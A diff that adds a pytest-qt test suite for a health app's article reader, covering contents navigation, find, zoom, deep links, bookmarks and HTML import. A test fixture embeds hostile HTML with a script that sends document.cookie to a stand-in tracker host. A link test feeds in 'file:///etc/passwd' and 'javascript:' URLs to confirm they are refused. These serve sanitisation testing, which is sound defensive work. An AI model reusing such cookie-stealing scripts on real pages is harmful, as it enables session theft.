@@ -1,0 +1,395 @@
+"""The Articles page driven like a reader: list, contents, find, zoom, links, bookmarks, imports."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from PySide6.QtCore import QPoint, Qt, QUrl
+from PySide6.QtGui import QDesktopServices, QTextCursor
+from PySide6.QtWidgets import QApplication, QListWidget, QWidget
+
+from gutsleep.services.context import open_services
+from gutsleep.storage.settings import READER_ZOOM
+from gutsleep.ui import dialogs
+from gutsleep.ui.articles_page import HIT_OPEN, ArticlesPage
+from gutsleep.ui.main_window import MainWindow
+
+HOSTILE_HTML = """<html><head><title>Evening routine</title>
+<script>new Image().src = 'https://tracker.example/p?c=' + document.cookie</script>
+<link rel="stylesheet" href="https://cdn.example/site.css"></head>
+<body onload="steal()">
+<h1>Evening routine</h1>
+<p onmouseover="steal()">Dim the lights an hour before bed.</p>
+<img src="https://tracker.example/pixel.gif" width="1" height="1">
+<iframe src="https://ads.example/banner"></iframe>
+<h2 id="tea">Herbal tea</h2><p>Chamomile is a gentle habit.</p>
+</body></html>
+"""
+
+
+def open_window(qtbot, data_dir: Path):
+    services = open_services(data_dir, zone="Europe/London")
+    window = MainWindow(services)
+    qtbot.addWidget(window)
+    window.resize(1150, 800)
+    window.show()
+    qtbot.waitExposed(window)
+    window.activateWindow()
+    qtbot.waitUntil(lambda: QApplication.activeWindow() is window)
+    page = window.show_page("articles")
+    assert isinstance(page, ArticlesPage)
+    qtbot.waitUntil(lambda: page.library_list.count() >= 7)
+    return services, window, page
+
+
+def close_window(window: MainWindow, services) -> None:
+    window.close()
+    services.close()
+
+
+def list_item(widget: QListWidget, article_id: str):
+    for row in range(widget.count()):
+        if widget.item(row).data(Qt.ItemDataRole.UserRole) == article_id:
+            return widget.item(row)
+    raise AssertionError(f"{article_id} is not listed")
+
+
+def click_item(qtbot, widget: QListWidget, item) -> None:
+    widget.scrollToItem(item)
+    qtbot.mouseClick(
+        widget.viewport(), Qt.MouseButton.LeftButton, pos=widget.visualItemRect(item).center()
+    )
+
+
+def click_text(qtbot, page: ArticlesPage, text: str) -> None:
+    """Click in the middle of ``text`` in the reader, scrolling it into view first."""
+    cursor = page.browser.document().find(text)
+    assert not cursor.isNull(), text
+    middle = QTextCursor(cursor)
+    middle.setPosition((cursor.selectionStart() + cursor.selectionEnd()) // 2)
+    page.browser.setTextCursor(middle)
+    page.browser.ensureCursorVisible()
+    point = page.browser.cursorRect(middle).center() + QPoint(0, 0)
+    qtbot.mouseClick(page.browser.viewport(), Qt.MouseButton.LeftButton, pos=point)
+
+
+def selected_text(page: ArticlesPage) -> str:
+    return page.browser.textCursor().selectedText()
+
+
+def test_read_with_contents_find_zoom_then_reopen(qtbot, data_dir: Path) -> None:
+    services, window, page = open_window(qtbot, data_dir)
+    assert not page.find_bar.isVisible()
+    signs = list_item(page.library_list, "signs")
+    assert "Tier 3 · emerging evidence" in signs.data(Qt.ItemDataRole.UserRole + 1)
+    assert "Unread" in signs.data(Qt.ItemDataRole.UserRole + 1)
+    click_item(qtbot, page.library_list, signs)
+    assert page.current is not None and page.current.id == "signs"
+    assert page.read_box.isChecked()
+    assert services.articles.state("signs").read
+    assert "Unread" not in list_item(page.library_list, "signs").data(Qt.ItemDataRole.UserRole + 1)
+    assert page.browser.verticalScrollBar().value() == 0
+    assert "Not medical advice" in page.browser.toPlainText()
+    assert "https://doi.org/10.1038/npp.2016.148" in page.browser.toPlainText()  # references
+
+    # The table of contents: a click, then the keyboard.
+    titles = [page.toc.item(row).text().strip() for row in range(page.toc.count())]
+    assert titles[0] == "The checklist" and titles[-1] == "References"
+    antibiotics = next(
+        page.toc.item(r) for r in range(page.toc.count()) if "antibiotic" in page.toc.item(r).text()
+    )
+    click_item(qtbot, page.toc, antibiotics)
+    assert page.current_anchor() == "antibiotics"
+    top = page.browser.verticalScrollBar().value()
+    assert top > 0
+    first_line = page.browser.cursorForPosition(QPoint(30, 20))
+    first_line.select(QTextCursor.SelectionType.LineUnderCursor)
+    assert "antibiotic" in first_line.selectedText().lower()
+    page.toc.setFocus()
+    qtbot.keyClick(page.toc, Qt.Key.Key_Down)
+    assert page.current_anchor() == "inflammation-markers"
+    assert page.browser.verticalScrollBar().value() > top
+
+    # Find in page: Ctrl+F, type, Enter / F3 for next, Shift+F3 for previous.
+    page.browser.setFocus()
+    qtbot.keyClick(page.browser, Qt.Key.Key_F, Qt.KeyboardModifier.ControlModifier)
+    assert page.find_bar.isVisible()
+    assert QApplication.focusWidget() is page.find_text
+    qtbot.keyClicks(page.find_text, "inflammation")
+    assert selected_text(page).lower() == "inflammation"
+    first = page.browser.textCursor().selectionStart()
+    count = int(page.find_message.text().split()[0])
+    assert count >= 3
+    assert len(page.browser.extraSelections()) == count  # every match is marked
+    qtbot.keyClick(page.find_text, Qt.Key.Key_Return)
+    second = page.browser.textCursor().selectionStart()
+    assert second > first and selected_text(page).lower() == "inflammation"
+    qtbot.keyClick(page.find_text, Qt.Key.Key_F3)
+    third = page.browser.textCursor().selectionStart()
+    assert third > second
+    qtbot.keyClick(page.find_text, Qt.Key.Key_F3, Qt.KeyboardModifier.ShiftModifier)
+    assert page.browser.textCursor().selectionStart() == second
+    qtbot.keyClick(page.find_text, Qt.Key.Key_Return, Qt.KeyboardModifier.ShiftModifier)
+    assert page.browser.textCursor().selectionStart() == first
+    page.find_text.selectAll()
+    qtbot.keyClicks(page.find_text, "kohlrabi")
+    assert "No match" in page.find_message.text()
+    qtbot.keyClick(page.find_text, Qt.Key.Key_Escape)
+    assert not page.find_bar.isVisible()
+
+    # Zoom with the keyboard, remembered at once.
+    size = page.browser.font().pointSizeF()
+    page.browser.setFocus()
+    qtbot.keyClick(page.browser, Qt.Key.Key_Plus, Qt.KeyboardModifier.ControlModifier)
+    qtbot.keyClick(page.browser, Qt.Key.Key_Plus, Qt.KeyboardModifier.ControlModifier)
+    qtbot.keyClick(page.browser, Qt.Key.Key_Minus, Qt.KeyboardModifier.ControlModifier)
+    qtbot.keyClick(page.browser, Qt.Key.Key_Plus, Qt.KeyboardModifier.ControlModifier)
+    assert page.zoom == 2
+    assert page.browser.font().pointSizeF() == pytest.approx(size * 1.2)
+    assert services.settings.get(READER_ZOOM) == 2
+    assert page.zoom_label.text() == "120 %"
+    # Zooming keeps the section in view.
+    assert page.current_anchor() == "inflammation-markers"
+
+    # Scroll somewhere in the middle of a section, as a reader would.
+    page.scroll_to_anchor("mood-symptoms")
+    page.browser.verticalScrollBar().setValue(page.browser.verticalScrollBar().value() + 60)
+    position = page.top_position()
+    assert page.current_anchor() == "mood-symptoms"
+
+    # Another article, then back: the position in signs was kept.
+    click_item(qtbot, page.library_list, list_item(page.library_list, "evidence"))
+    assert page.current.id == "evidence"
+    assert page.browser.verticalScrollBar().value() == 0
+    assert services.articles.state("signs").position == position
+    click_item(qtbot, page.library_list, list_item(page.library_list, "signs"))
+    assert page.top_position() == position
+    close_window(window, services)
+
+    services, window, page = open_window(qtbot, data_dir)
+    assert window.current_page_id() == "articles"
+    assert page.zoom == 2
+    assert page.browser.font().pointSizeF() == pytest.approx(size * 1.2)
+    click_item(qtbot, page.library_list, list_item(page.library_list, "signs"))
+    # The same text is at the top, even though the column may be a little wider now.
+    assert page.top_position() == position
+    assert page.browser.verticalScrollBar().value() > 0
+    assert page.current_anchor() == "mood-symptoms"
+    qtbot.keyClick(page.browser, Qt.Key.Key_0, Qt.KeyboardModifier.ControlModifier)
+    assert page.zoom == 0 and services.settings.get(READER_ZOOM) == 0
+    close_window(window, services)
+
+
+def test_deep_links_open_the_right_section(qtbot, data_dir: Path) -> None:
+    services, window, page = open_window(qtbot, data_dir)
+    window.show_page("journal")
+    assert window.open_article("signs", "antibiotics") is True
+    assert window.current_page_id() == "articles"
+    assert page.current.id == "signs"
+    assert page.current_anchor() == "antibiotics"
+    assert "antibiotic" in page.toc.currentItem().text()
+    assert page.browser.verticalScrollBar().value() > 0
+    first_line = page.browser.cursorForPosition(QPoint(30, 20))
+    first_line.select(QTextCursor.SelectionType.LineUnderCursor)
+    assert "antibiotic" in first_line.selectedText().lower()
+
+    # The checklist's digestion question has its own section.
+    assert window.open_article("signs", "digestion-fine")
+    assert page.current_anchor() == "digestion-fine"
+
+    # Links inside articles: to another article's section, and back again.
+    page.scroll_to_anchor("none-apply")
+    before = page.top_position()
+    click_text(qtbot, page, "where gut health fits")
+    assert page.current.id == "evidence-tiers"
+    assert page.current_anchor() == "tier-1"
+    assert page.back_button.isEnabled()
+    qtbot.keyClick(page.browser, Qt.Key.Key_Left, Qt.KeyboardModifier.AltModifier)
+    assert page.current.id == "signs"
+    assert page.top_position() == before
+
+    # A link within the same article.
+    page.scroll_to_anchor("checklist")
+    click_text(qtbot, page, "An autoimmune condition")
+    assert page.current.id == "signs" and page.current_anchor() == "autoimmune"
+
+    # An unknown article leaves the reader where it was, with a message.
+    assert page.open_article("no-such-article") is False
+    assert page.current.id == "signs"
+    assert "no-such-article" in page.status.text()
+    close_window(window, services)
+
+
+def test_search_as_you_type_highlights_hits(qtbot, data_dir: Path) -> None:
+    services, window, page = open_window(qtbot, data_dir)
+    page.search.setFocus()
+    qtbot.keyClicks(page.search, "vagus")
+    ids = [page.library_list.item(r).data(Qt.ItemDataRole.UserRole) for r in range(3)[:1]]
+    assert ids == ["gut-brain-axis"]
+    snippet = page.library_list.item(0).data(Qt.ItemDataRole.UserRole + 1)
+    assert HIT_OPEN + "vagus" in snippet.lower() or HIT_OPEN + "Vagus" in snippet
+    qtbot.keyClick(page.search, Qt.Key.Key_Down)
+    assert QApplication.focusWidget() is page.library_list
+    qtbot.keyClick(page.library_list, Qt.Key.Key_Return)
+    assert page.current.id == "gut-brain-axis"
+    assert page.current_anchor() == "vagus-nerve"
+    assert "#ffe066" in page.browser.toHtml()
+    qtbot.keyClicks(page.search, "zzzz")  # focus is on the list: typing goes nowhere harmful
+    page.search.setFocus()
+    page.search.selectAll()
+    qtbot.keyClicks(page.search, "kohlrabi")
+    assert page.library_list.count() == 1
+    assert not page.library_list.item(0).flags() & Qt.ItemFlag.ItemIsEnabled
+    page.search.clear()
+    assert page.library_list.count() >= 7
+    assert "#ffe066" not in page.browser.toHtml()  # highlights go with the search
+    assert page.current.id == "gut-brain-axis"
+    close_window(window, services)
+
+
+def test_bookmark_a_section_with_a_note(qtbot, data_dir: Path, monkeypatch) -> None:
+    services, window, page = open_window(qtbot, data_dir)
+    window.open_article("foundations", "probiotics")
+    monkeypatch.setattr(dialogs, "edit_text", lambda *args: "Ask about <b>LGG</b>\nin May")
+    qtbot.mouseClick(page.bookmark_button, Qt.MouseButton.LeftButton)
+    (mark,) = services.articles.bookmarks()
+    assert (mark.article_id, mark.anchor, mark.note) == (
+        "foundations",
+        "probiotics",
+        "Ask about <b>LGG</b>\nin May",
+    )
+    assert page.tabs.tabText(1) == "Bookmarks (1)"
+    # Cancelling the note dialog bookmarks nothing.
+    monkeypatch.setattr(dialogs, "edit_text", lambda *args: None)
+    qtbot.mouseClick(page.bookmark_button, Qt.MouseButton.LeftButton)
+    assert len(services.articles.bookmarks()) == 1
+    close_window(window, services)
+
+    services, window, page = open_window(qtbot, data_dir)
+    page.tabs.setCurrentIndex(1)
+    item = page.bookmarks_list.item(0)
+    shown = item.data(Qt.ItemDataRole.UserRole + 1)
+    assert "Ask about &lt;b&gt;LGG&lt;/b&gt;<br />in May" in shown  # notes are plain text
+    assert "Probiotics" in shown or "probiotics" in shown.lower()
+    click_item(qtbot, page.bookmarks_list, item)
+    qtbot.keyClick(page.bookmarks_list, Qt.Key.Key_Return)
+    assert page.current.id == "foundations" and page.current_anchor() == "probiotics"
+
+    monkeypatch.setattr(dialogs, "edit_text", lambda parent, title, label, text: text + "!")
+    qtbot.mouseClick(page.bookmark_edit, Qt.MouseButton.LeftButton)
+    assert services.articles.bookmarks()[0].note.endswith("in May!")
+    asked = []
+    monkeypatch.setattr(dialogs, "ask", lambda *args: asked.append(args) or False)
+    qtbot.mouseClick(page.bookmark_delete, Qt.MouseButton.LeftButton)
+    assert asked and len(services.articles.bookmarks()) == 1
+    monkeypatch.setattr(dialogs, "ask", lambda *args: True)
+    qtbot.mouseClick(page.bookmark_delete, Qt.MouseButton.LeftButton)
+    assert services.articles.bookmarks() == []
+    assert page.tabs.tabText(1) == "Bookmarks"
+
+    # Selected text becomes the bookmark's quote, in the section that holds it.
+    window.open_article("signs", "autoimmune")
+    cursor = page.browser.document().find("coeliac disease and inflammatory bowel disease")
+    page.browser.setTextCursor(cursor)
+    monkeypatch.setattr(dialogs, "edit_text", lambda *args: "")
+    qtbot.mouseClick(page.bookmark_button, Qt.MouseButton.LeftButton)
+    (mark,) = services.articles.bookmarks()
+    assert mark.anchor == "autoimmune"
+    assert mark.quote == "coeliac disease and inflammatory bowel disease"
+    close_window(window, services)
+
+
+def test_an_external_link_asks_first(qtbot, data_dir: Path, monkeypatch) -> None:
+    services, window, page = open_window(qtbot, data_dir)
+    window.open_article("signs", "references")
+    asked: list[str] = []
+    opened: list[QUrl] = []
+    answer = {"value": False}
+
+    def confirm(parent: QWidget, url: str) -> bool:
+        asked.append(url)
+        return answer["value"]
+
+    monkeypatch.setattr(dialogs, "confirm_external_link", confirm)
+    monkeypatch.setattr(QDesktopServices, "openUrl", staticmethod(opened.append))
+    doi = "https://doi.org/10.1038/npp.2016.148"
+    click_text(qtbot, page, doi)
+    assert asked == [doi]
+    assert opened == []
+    answer["value"] = True
+    click_text(qtbot, page, doi)
+    assert [url.toString() for url in opened] == [doi]
+    # Other schemes are ignored without a question.
+    for url in ("file:///etc/passwd", "javascript:alert(1)", "mailto:a@example.org"):
+        page.browser.anchorClicked.emit(QUrl(url))
+    assert len(asked) == 2 and len(opened) == 1
+    assert page.current.id == "signs"
+    close_window(window, services)
+
+
+def test_import_a_hostile_html_file_and_remove_it(
+    qtbot, data_dir: Path, tmp_path: Path, monkeypatch
+) -> None:
+    services, window, page = open_window(qtbot, data_dir)
+    window.open_article("signs")
+    assert not page.remove_button.isVisible()  # bundled articles can't be removed
+    source = tmp_path / "evening.html"
+    source.write_text(HOSTILE_HTML, encoding="utf-8")
+    monkeypatch.setattr(dialogs, "open_path", lambda *args: str(source))
+    warned: list[str] = []
+    monkeypatch.setattr(dialogs, "warn", lambda parent, title, text: warned.append(text))
+    qtbot.mouseClick(page.import_button, Qt.MouseButton.LeftButton)
+    assert warned == []
+    assert page.current is not None and page.current.title == "Evening routine"
+    assert not page.current.bundled
+    text = page.browser.toPlainText()
+    assert "Dim the lights" in text and "Chamomile" in text
+    shown = page.browser.toHtml().lower()
+    for bad in ("<img", "tracker.example", "cdn.example", "ads.example", "steal", "script"):
+        assert bad not in shown, bad
+    assert page.browser.refused == []
+    assert "Yours" in list_item(page.library_list, page.current.id).data(
+        Qt.ItemDataRole.UserRole + 1
+    )
+    assert [page.toc.item(r).text().strip() for r in range(page.toc.count())] == [
+        "Evening routine",
+        "Herbal tea",
+    ]
+    assert page.remove_button.isVisible()
+
+    # A binary file is refused with the sentence from the importer.
+    binary = tmp_path / "photo.md"
+    binary.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00")
+    monkeypatch.setattr(dialogs, "open_path", lambda *args: str(binary))
+    qtbot.mouseClick(page.import_button, Qt.MouseButton.LeftButton)
+    assert len(warned) == 1 and "photo.md can't be read as text" in warned[0]
+
+    article_id = page.current.id
+    monkeypatch.setattr(dialogs, "ask", lambda *args: False)
+    qtbot.mouseClick(page.remove_button, Qt.MouseButton.LeftButton)
+    assert services.articles.article(article_id) is not None
+    monkeypatch.setattr(dialogs, "ask", lambda *args: True)
+    qtbot.mouseClick(page.remove_button, Qt.MouseButton.LeftButton)
+    assert services.articles.article(article_id) is None
+    assert page.current is None
+    ids = [page.library_list.item(r).data(Qt.ItemDataRole.UserRole) for r in range(7)]
+    assert article_id not in ids
+    close_window(window, services)
+
+
+def test_the_library_is_read_only_when_the_page_is_first_shown(qtbot, data_dir: Path) -> None:
+    services = open_services(data_dir, zone="Europe/London")
+    window = MainWindow(services)
+    qtbot.addWidget(window)
+    window.show()
+    qtbot.waitExposed(window)
+    assert "articles" not in window.pages
+    assert services.articles.loaded is False
+    window.show_page("articles")
+    qtbot.waitUntil(lambda: services.articles.loaded)
+    window.show_page("journal")
+    (read,) = [a for a in window.help_menu.actions() if a.text() == "Read the &articles"]
+    read.trigger()
+    assert window.current_page_id() == "articles"
+    close_window(window, services)
